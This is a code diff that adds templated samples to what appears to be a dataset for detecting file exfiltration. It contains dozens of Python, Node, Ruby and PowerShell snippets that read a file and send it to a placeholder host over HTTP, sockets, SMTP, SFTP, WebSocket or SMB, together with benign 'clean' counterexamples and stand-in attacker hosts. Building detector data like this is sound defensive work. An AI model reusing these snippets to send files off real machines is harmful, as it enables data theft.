@@ -504,6 +504,71 @@ CODE_UP = {
         "import requests, pathlib\nfor p in pathlib.Path('secrets').glob('*'):\n    requests.post('https://{h}/g', files={'f': p.open('rb')})",
         "import requests\nfrom pathlib import Path\nurl = 'https://' + '{h}' + '/j'\nrequests.request('PATCH', url, json={'d': Path('{f}').read_text()})",
     ],
+    "code-py-asyncio": [
+        "import asyncio\n\n\nasync def main():\n    r, w = await asyncio.open_connection('{h}', 7007)\n    w.write(open('{f}', 'rb').read())\n    await w.drain()\n    w.close()\n\n\nasyncio.run(main())",
+        "import asyncio, ssl\n\n\nasync def main():\n    _, w = await asyncio.open_connection('{h}', 443, ssl=ssl.create_default_context())\n"
+        "    with open('{f}', 'rb') as fh:\n        w.writelines(fh)\n    await w.drain()\n\n\nasyncio.run(main())",
+        "import asyncio\n\n\nclass P(asyncio.Protocol):\n    def connection_made(self, t):\n        t.write(open('{f}', 'rb').read())\n        t.close()\n\n\n"
+        "async def main():\n    loop = asyncio.get_running_loop()\n    await loop.create_connection(P, '{h}', 9009)\n\n\nasyncio.run(main())",
+        "import asyncio\nfrom email.message import EmailMessage\nimport aiosmtplib\n\nmsg = EmailMessage()\nmsg['To'] = 'x@{h}'\nmsg['From'] = 'a@b'\n"
+        "msg.add_attachment(open('{f}', 'rb').read(), maintype='application', subtype='octet-stream')\nasyncio.run(aiosmtplib.send(msg, hostname='{h}', port=587))",
+        "import asyncio, aiosmtplib\n\n\nasync def main():\n    c = aiosmtplib.SMTP(hostname='{h}', port=25)\n    await c.connect()\n"
+        "    await c.sendmail('a@b', ['x@y'], open('{f}').read())\n\n\nasyncio.run(main())",
+        "import asyncio\n\n\nasync def main():\n    loop = asyncio.get_running_loop()\n"
+        "    t, _ = await loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=('{h}', 5353))\n    t.sendto(open('{f}', 'rb').read()[:512])\n\n\nasyncio.run(main())",
+        "import asyncio, websockets\n\n\nasync def main():\n    async with websockets.connect('wss://{h}/ws') as ws:\n        await ws.send(open('{f}', 'rb').read())\n\n\nasyncio.run(main())",
+        "import asyncio, socket\n\n\nasync def main():\n    loop = asyncio.get_running_loop()\n    s = socket.socket()\n    s.setblocking(False)\n"
+        "    await loop.sock_connect(s, ('{h}', 7007))\n    await loop.sock_sendall(s, open('{f}', 'rb').read())\n\n\nasyncio.run(main())",
+    ],
+    "code-py-sftp-libs": [
+        "from fabric import Connection\nConnection('{u}@{h}').put('{f}', '/tmp/')",
+        "import fabric\nc = fabric.Connection(host='{h}', user='{u}', connect_kwargs={'password': 'pw'})\nc.put('{f}', remote='/var/tmp/x')",
+        "import asyncio, asyncssh\n\n\nasync def main():\n    async with asyncssh.connect('{h}', username='{u}') as c:\n"
+        "        async with c.start_sftp_client() as s:\n            await s.put('{f}', 'in/')\n\n\nasyncio.run(main())",
+        "import asyncio, asyncssh\n\n\nasync def main():\n    await asyncssh.scp('{f}', '{u}@{h}:/tmp/')\n\n\nasyncio.run(main())",
+        "import pysftp\nwith pysftp.Connection('{h}', username='{u}', password='pw') as s:\n    s.put('{f}')",
+        "import io, paramiko\nt = paramiko.Transport(('{h}', 22))\nt.connect(username='{u}', password='pw')\nsftp = paramiko.SFTPClient.from_transport(t)\n"
+        "sftp.putfo(io.BytesIO(open('{f}', 'rb').read()), 'x.bin')",
+        "import paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())\nc.connect('{h}', username='{u}')\n"
+        "with c.open_sftp().open('drop.bin', 'wb') as r:\n    r.write(open('{f}', 'rb').read())",
+        "from scp import SCPClient\nimport paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('{h}')\nSCPClient(c.get_transport()).put('{f}', '/tmp/')",
+    ],
+    "code-node-ws-mail-sftp": [
+        "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://{h}/s');\nws.on('open', () => ws.send(require('fs').readFileSync('{f}')));",
+        "import WebSocket from 'ws';\nimport { createReadStream } from 'node:fs';\nconst ws = new WebSocket('ws://{h}:8080/');\n"
+        "const d = WebSocket.createWebSocketStream(ws);\ncreateReadStream('{f}').pipe(d);",
+        "const nodemailer = require('nodemailer');\nconst t = nodemailer.createTransport({ host: '{h}', port: 587 });\n"
+        "await t.sendMail({ from: 'a@b', to: 'x@y', attachments: [{ path: '{f}' }] });",
+        "const nodemailer = require('nodemailer');\nawait nodemailer.createTransport('smtps://{u}:pw@{h}').sendMail({ to: 'x@y', text: require('fs').readFileSync('{f}', 'utf8') });",
+        "const Client = require('ssh2-sftp-client');\nconst s = new Client();\nawait s.connect({ host: '{h}', username: '{u}', password: 'pw' });\nawait s.put('{f}', '/tmp/x');",
+        "const Client = require('ssh2-sftp-client');\nconst sftp = new Client();\nawait sftp.connect({ host: '{h}', port: 2222, username: '{u}' });\nawait sftp.fastPut('{f}', 'in/x');",
+        "const { Client } = require('ssh2');\nconst c = new Client();\n"
+        "c.on('ready', () => c.sftp((e, s) => s.fastPut('{f}', '/tmp/x', () => c.end()))).connect({ host: '{h}', username: '{u}' });",
+        "const { io } = require('socket.io-client');\nconst s = io('https://{h}');\ns.emit('blob', require('fs').readFileSync('{f}'));",
+    ],
+    "code-ruby-gems": [
+        "require 'net/http'\nuri = URI('https://{h}/u')\nreq = Net::HTTP::Post.new(uri)\nreq.body_stream = File.open('{f}')\nreq['Transfer-Encoding'] = 'chunked'\n"
+        "Net::HTTP.start(uri.host, uri.port, use_ssl: true) { |h| h.request(req) }",
+        "require 'faraday'\nrequire 'faraday/multipart'\nc = Faraday.new('https://{h}') { |b| b.request :multipart }\n"
+        "c.post('/u', file: Faraday::Multipart::FilePart.new('{f}', 'application/octet-stream'))",
+        "require 'httparty'\nHTTParty.post('https://{h}/p', body: { f: File.open('{f}') })",
+        "require 'rest-client'\nRestClient.post('https://{h}/r', file: File.new('{f}', 'rb'))",
+        "require 'net/sftp'\nNet::SFTP.start('{h}', '{u}', password: 'pw') { |s| s.upload!('{f}', '/tmp/x') }",
+        "require 'net/scp'\nNet::SCP.upload!('{h}', '{u}', '{f}', '/tmp/x', ssh: { password: 'pw' })",
+        "require 'socket'\ns = TCPSocket.new('{h}', 7007)\nIO.copy_stream('{f}', s)\ns.close",
+        "require 'mail'\nMail.defaults { delivery_method :smtp, address: '{h}', port: 25 }\nMail.deliver { to 'x@y'; from 'a@b'; add_file '{f}' }",
+    ],
+    "code-powershell": [
+        "Invoke-WebRequest -Uri https://{h}/u -Method Post -Form @{ f = Get-Item '{f}' }",
+        "$b = [IO.File]::ReadAllBytes('{f}')\nInvoke-WebRequest -Uri 'https://{h}/b' -Method Put -Body $b",
+        "Start-BitsTransfer -TransferType Upload -Source '{f}' -Destination 'https://{h}/bits/x'",
+        "Send-MailMessage -SmtpServer {h} -To x@y -From a@b -Subject r -Attachments '{f}'",
+        "Copy-Item '{f}' -Destination '\\\\{h}\\share\\'",
+        "$c = New-Object Net.Sockets.TcpClient('{h}', 7007)\n$s = $c.GetStream()\n$d = [IO.File]::ReadAllBytes('{f}')\n$s.Write($d, 0, $d.Length)\n$c.Close()",
+        "$h = [Net.Http.HttpClient]::new()\n$c = [Net.Http.StreamContent]::new([IO.File]::OpenRead('{f}'))\n$h.PostAsync('https://{h}/s', $c).Wait()",
+        "Get-Content '{f}' -Raw | Invoke-RestMethod -Uri https://{h}/p -Method Post",
+        "$s = New-PSSession -ComputerName {h}\nCopy-Item '{f}' -Destination C:\\Temp\\ -ToSession $s",
+    ],
 }
 CODE_EXTRA = {
     "code-py-requests-pathlib": [
@@ -512,6 +577,41 @@ CODE_EXTRA = {
         ("import requests, pathlib\nrequests.post('https://corp.example.com/drop/', files={'f': pathlib.Path('dist.tgz').read_bytes()})", "clean"),
         ("# requests.post(url, files={'f': Path(p).open('rb')}) uploads p\nprint('see docs')", "clean"),
         ("import requests\nrequests.get('https://paste.badhost.test/raw/1')", "any_host", "paste.badhost.test"),
+    ],
+    "code-py-asyncio": [
+        ("import asyncio\n\n\nasync def main():\n    _, w = await asyncio.open_connection('127.0.0.1', 7007)\n    w.write(open('status.json', 'rb').read())\n    await w.drain()\n\n\nasyncio.run(main())", "clean"),
+        ("import asyncio, aiosmtplib\nfrom email.message import EmailMessage\n\nm = EmailMessage()\nm['To'] = 'me@corp.example.com'\nm.set_content('done')\n"
+         "asyncio.run(aiosmtplib.send(m, hostname='localhost', port=1025))", "clean"),
+        ("import asyncio, websockets\n\n\nasync def main():\n    async with websockets.connect('wss://corp.example.com/ws') as ws:\n        await ws.send('ping')\n\n\nasyncio.run(main())", "clean"),
+        ("import asyncio\n\n\nasync def main():\n    _, w = await asyncio.open_connection('drop.leakbox.test', 443)\n    w.close()\n\n\nasyncio.run(main())", "any_host", "drop.leakbox.test"),
+    ],
+    "code-py-sftp-libs": [
+        ("from fabric import Connection\nConnection('deploy@jump.example.com').put('dist.tgz', '/srv/')", "clean"),
+        ("import pysftp\nwith pysftp.Connection('jump.example.com', username='deploy') as s:\n    s.get('/srv/log.txt')", "clean"),
+        ("import asyncio, asyncssh\n\n\nasync def main():\n    async with asyncssh.connect('localhost') as c:\n        async with c.start_sftp_client() as s:\n"
+         "            await s.put('a.log', '/tmp/')\n\n\nasyncio.run(main())", "clean"),
+        ("# sftp.putfo(fh, path) writes fh to the server\nprint('see paramiko docs')", "clean"),
+        ("from fabric import Connection\nConnection('x@relay.example.net').run('uptime')", "any_host", "relay.example.net"),
+    ],
+    "code-node-ws-mail-sftp": [
+        ("const WebSocket = require('ws');\nconst ws = new WebSocket('ws://localhost:8080/');\nws.on('open', () => ws.send(require('fs').readFileSync('a.log')));", "clean"),
+        ("const nodemailer = require('nodemailer');\nawait nodemailer.createTransport({ host: 'localhost', port: 1025 }).sendMail({ to: 'me@corp.example.com', attachments: [{ path: 'report.pdf' }] });", "clean"),
+        ("const Client = require('ssh2-sftp-client');\nconst s = new Client();\nawait s.connect({ host: 'jump.example.com', username: 'deploy' });\nawait s.get('/srv/log.txt', 'log.txt');", "clean"),
+        ("// nodemailer: attachments: [{ path }] sends a file\nconsole.log('docs');", "clean"),
+        ("const WebSocket = require('ws');\nnew WebSocket('wss://relay.example.net/feed').on('message', m => console.log(String(m)));", "any_host", "relay.example.net"),
+    ],
+    "code-ruby-gems": [
+        ("require 'faraday'\nputs Faraday.new('https://corp.example.com').get('/api').body", "clean"),
+        ("require 'httparty'\nHTTParty.post('http://localhost:3000/u', body: { f: File.open('a.log') })", "clean"),
+        ("# RestClient.post(url, file: File.new(path)) uploads path\nputs 'docs'", "clean"),
+        ("require 'net/http'\nputs Net::HTTP.get(URI('https://paste.badhost.test/raw'))", "any_host", "paste.badhost.test"),
+    ],
+    "code-powershell": [
+        ("Invoke-WebRequest -Uri https://corp.example.com/api -OutFile api.json", "clean"),
+        ("Invoke-WebRequest -Uri http://localhost:8080/u -Method Post -Form @{ f = Get-Item 'a.log' }", "clean"),
+        ("Start-BitsTransfer -Source https://github.com/o/r/releases/download/v1/app.zip -Destination app.zip", "clean"),
+        ("Copy-Item dist.zip -Destination C:\\backup\\", "clean"),
+        ("Invoke-RestMethod https://203.0.113.77/status", "any_host", "203.0.113.77"),
     ],
 }
 
